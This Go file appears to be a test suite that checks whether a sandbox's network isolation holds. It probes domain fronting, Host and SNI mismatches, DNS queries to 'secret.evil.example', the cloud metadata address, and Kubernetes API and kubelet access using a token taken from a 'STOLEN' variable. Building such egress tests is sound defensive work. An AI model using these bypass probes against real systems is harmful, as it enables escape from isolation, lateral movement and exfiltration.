//go:build linux

package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
)

// dialTimeout is how long the answer to a packet may take on a busy machine, and againTimeout
// that to what is sent several times. Where every way leads out, nothing waits for them.
var (
	dialTimeout  = duration("DIAL_TIMEOUT", 10*time.Second)
	againTimeout = dialTimeout / 3
)

// networkTries are the ways by the network.
func networkTries() []try {
	peer, peer6, service, node, token := os.Getenv("PEER"), os.Getenv("PEER6"), os.Getenv("PEER_SERVICE"), os.Getenv("NODE"), os.Getenv("STOLEN")
	bearer := "Authorization: Bearer " + token + "\r\n"
	list := "GET /api/v1/namespaces/default/pods HTTP/1.1\r\nHost: kubernetes\r\n" + bearer + "Connection: close\r\n\r\n"
	web := func(host string) string { return "GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }
	of := func(name, sees string, do func() string) try { return try{name, do, sees} }
	below := func(label string) string { return label + "." + unlisted } // so that each way has a record of its own
	return []try{
		of("a name that is not listed", greeting, func() string { return get(addressOf(unlisted), unlisted, unlisted, false) }),
		of("an address without a name", greeting, func() string { return get(public+":443", "", public, false) }),
		of("a Host that is not the name in TLS", "host=host", func() string { return get(public+":443", listed, below("host"), false) }),
		of("a name in TLS that is not listed", greeting, func() string { return get(public+":443", below("front"), listed, false) }),
		of("a second request for another Host", "host=second", func() string { return overTLS(web(listed) + web(below("second"))) }),
		of("a URL for another Host", "host=url", func() string {
			return overTLS("GET https://" + below("url") + "/ HTTP/1.1\r\nHost: " + listed + "\r\n\r\n")
		}),
		of("HTTP/2 with another authority", "host=h2", func() string { return http2(below("h2")) }),
		of("a WebSocket to another Host", "host=ws", func() string {
			return overTLS("GET / HTTP/1.1\r\nHost: " + below("ws") + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\r\n\r\n")
		}),
		of("a header of one's own in place of the credential", "auth=mine", func() string {
			return overTLS("GET / HTTP/1.1\r\nHost: " + listed + "\r\nAuthorization: mine\r\n\r\n")
		}),
		of("bytes that are not TLS, at port 443", greeting, func() string { return raw("tcp", plain+":443", "SSH-2.0-x\r\n") }),
		of("bytes that are not HTTP, at port 80", greeting, func() string { return raw("tcp", plain+":80", "SSH-2.0-x\r\n") }),
		of("HTTP to a Host that is not listed", greeting, func() string { return raw("tcp", public+":80", web(unlisted)) }),
		of("HTTP to a Host that is listed for TLS alone", greeting, func() string { return raw("tcp", public+":80", web(listed)) }),
		of("a listed name that leads to the node", greeting, func() string { return get(addressOf(inside), inside, inside, false) }),
		of("TLS at another port", greeting, func() string { return get(public+":8443", listed, listed, false) }),
		of("port 22", greeting, func() string { return raw("tcp", plain+":22", "") }),
		of("UDP port 443, as HTTP/3", greeting, insisting(func() string { return raw("udp", public+":443", "x") })),
		of("names by UDP, from elsewhere", greeting, insisting(func() string { return raw("udp", public+":53", question()) })),
		of("names by TCP, from elsewhere", greeting, func() string { return raw("tcp", public+":53", "\x00\x1e"+question()) }),
		of("echoes of ICMP", greeting, insisting(ping)),
		of("the API server by its Service, with a token", "PodList", func() string { return overTLSAt("10.96.0.1:443", "kubernetes", list) }),
		of("the API server at its address, with a token", "PodList", func() string { return overTLSAt(node+":6443", "kubernetes", list) }),
		of("the kubelet, with a token", "PodList", func() string {
			return overTLSAt(node+":10250", "", "GET /pods HTTP/1.1\r\nHost: kubelet\r\n"+bearer+"Connection: close\r\n\r\n")
		}),
		of("another Pod", greeting, func() string { return raw("tcp", peer+":8081", "") }),
		of("another Pod by its Service", greeting, func() string { return raw("tcp", service+":8081", "") }),
		of("another Pod by IPv6", greeting, func() string { return raw("tcp", "["+peer6+"]:8081", "") }),
		of("the metadata address", greeting, func() string { return raw("tcp", "169.254.169.254:80", web("169.254.169.254")) }),
		of("TLS by IPv6", greeting, func() string { return get("["+public6+"]:443", below("six"), below("six"), false) }),
		of("another port by IPv6", greeting, func() string { return raw("tcp", "["+public6+"]:22", "") }),
		of("IPv4 by an address of IPv6", done, mapped),
		of("the proxy itself, by CONNECT", greeting, byConnect),
		of("a child as the user of the proxy", greeting, asUser),
	}
}

// addressOf resolves a name, for as long as that may take: a question that is lost would look like a way that is closed.
func addressOf(name string) string {
	var err error
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); {
		var found []string
		if found, err = net.LookupHost(name); err == nil {
			return net.JoinHostPort(found[0], "443")
		}
	}
	return err.Error()
}

func dialTLS(address, name string) (*tls.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: dialTimeout}, "tcp", address, &tls.Config{ServerName: name, InsecureSkipVerify: name != listed})
}

// ask sends a request on a connection, and returns the answer.
func ask(conn net.Conn, from *bufio.Reader, host string) string {
	_ = conn.SetDeadline(time.Now().Add(dialTimeout))
	if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n"); err != nil {
		return err.Error()
	}
	response, err := http.ReadResponse(from, nil)
	if err != nil {
		return err.Error()
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(io.LimitReader(response.Body, 4096))
	return fmt.Sprintf("%s %s %v", response.Status, text, err)
}

// get asks for / at an address, where TLS is for a name and the request for a host.
func get(address, name, host string, verify bool) string {
	return fetch(address, host, &http.Transport{TLSClientConfig: &tls.Config{ServerName: name, InsecureSkipVerify: !verify}})
}

func http2(host string) string {
	return fetch(public+":443", host, &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: &tls.Config{ServerName: listed, InsecureSkipVerify: true}})
}

func fetch(address, host string, transport *http.Transport) string {
	transport.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{Timeout: dialTimeout}).DialContext(ctx, network, address)
	}
	defer transport.CloseIdleConnections()
	request, err := http.NewRequest(http.MethodGet, "https://"+host+"/", nil)
	if err != nil {
		return err.Error()
	}
	response, err := (&http.Client{Transport: transport, Timeout: 2 * dialTimeout}).Do(request)
	if err != nil {
		return err.Error()
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(io.LimitReader(response.Body, 4096))
	return fmt.Sprintf("%s %s %s %v", response.Proto, response.Status, text, err)
}

// overTLS sends what it is given by TLS for the listed name, and returns all that comes back.
func overTLS(text string) string { return overTLSAt(public+":443", listed, text) }

func overTLSAt(address, name, text string) string {
	conn, err := dialTLS(address, name)
	if err != nil {
		return err.Error()
	}
	return exchange(conn, text, dialTimeout)
}

// insisting tries three times: on a loaded machine a datagram can be lost where nothing holds it back.
func insisting(try func() string) func() string {
	return func() (seen string) {
		for range 3 {
			if seen = try(); strings.Contains(seen, greeting) {
				break
			}
		}
		return seen
	}
}

// raw sends what it is given, and returns all that comes back.
func raw(network, address, text string) string {
	if network == "udp" {
		return rawWithin(againTimeout, network, address, text)
	}
	return rawWithin(dialTimeout, network, address, text)
}

func rawWithin(timeout time.Duration, network, address, text string) string {
	conn, err := net.DialTimeout(network, address, timeout)
	if err != nil {
		return err.Error()
	}
	return exchange(conn, text, timeout)
}

func exchange(conn net.Conn, text string, timeout time.Duration) string {
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := io.WriteString(conn, text); err != nil {
		return err.Error()
	}
	var seen strings.Builder
	buffer := make([]byte, 64<<10)
	for {
		n, err := conn.Read(buffer)
		seen.Write(buffer[:n])
		if err != nil || seen.Len() > 1<<20 || strings.Contains(seen.String(), "PodList") || strings.Count(seen.String(), greeting) >= max(1, strings.Count(text, "GET ")) {
			return fmt.Sprintf("connected %s %v", seen.String(), err)
		}
	}
}

// question asks for the address of a name, in the form of DNS.
func question() string {
	message := dnsmessage.Message{Header: dnsmessage.Header{ID: 1, RecursionDesired: true}, Questions: []dnsmessage.Question{{
		Name: dnsmessage.MustNewName("secret.evil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET,
	}}}
	text, err := message.Pack()
	if err != nil {
		return err.Error()
	}
	return string(text)
}

// ping sends an echo, as everybody may on some systems, and as root may on all.
func ping() string {
	conn, err := icmp.ListenPacket("udp4", "0.0.0.0")
	to := net.Addr(&net.UDPAddr{IP: net.ParseIP(public)})
	if err != nil {
		if conn, err = icmp.ListenPacket("ip4:icmp", "0.0.0.0"); err != nil {
			return err.Error()
		}
		to = &net.IPAddr{IP: net.ParseIP(public)}
	}
	defer func() { _ = conn.Close() }()
	text, err := (&icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{ID: 1, Seq: 1, Data: []byte(greeting)}}).Marshal(nil)
	if err != nil {
		return err.Error()
	}
	if _, err := conn.WriteTo(text, to); err != nil {
		return err.Error()
	}
	_ = conn.SetDeadline(time.Now().Add(againTimeout))
	buffer := make([]byte, 1500)
	n, _, err := conn.ReadFrom(buffer)
	return fmt.Sprintf("%s %v", buffer[:n], err)
}

// mapped connects to an IPv4 address in the form of IPv6, which Go's own dialer does not.
func mapped() string {
	fd, err := syscall.Socket(syscall.AF_INET6, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err.Error()
	}
	defer func() { _ = syscall.Close(fd) }()
	_ = syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_SNDTIMEO, &syscall.Timeval{Sec: int64(dialTimeout / time.Second)})
	address := syscall.SockaddrInet6{Port: 22}
	copy(address.Addr[:], net.ParseIP(plain).To16())
	return ended(syscall.Connect(fd, &address))
}

// byConnect asks the proxy at the address where a run has one.
func byConnect() string {
	conn, err := net.DialTimeout("tcp", proxyAddress, dialTimeout)
	if err != nil {
		return err.Error()
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(dialTimeout))
	if _, err := io.WriteString(conn, "CONNECT "+public+":443 HTTP/1.1\r\nHost: "+unlisted+":443\r\n\r\n"); err != nil {
		return err.Error()
	}
	buffer := make([]byte, 4096)
	n, err := conn.Read(buffer)
	if err != nil || !strings.Contains(string(buffer[:n]), " 200 ") {
		return fmt.Sprintf("%s %v", buffer[:n], err)
	}
	secure := tls.Client(conn, &tls.Config{ServerName: unlisted, InsecureSkipVerify: true})
	return exchange(secure, "GET / HTTP/1.1\r\nHost: "+unlisted+"\r\n\r\n", dialTimeout)
}
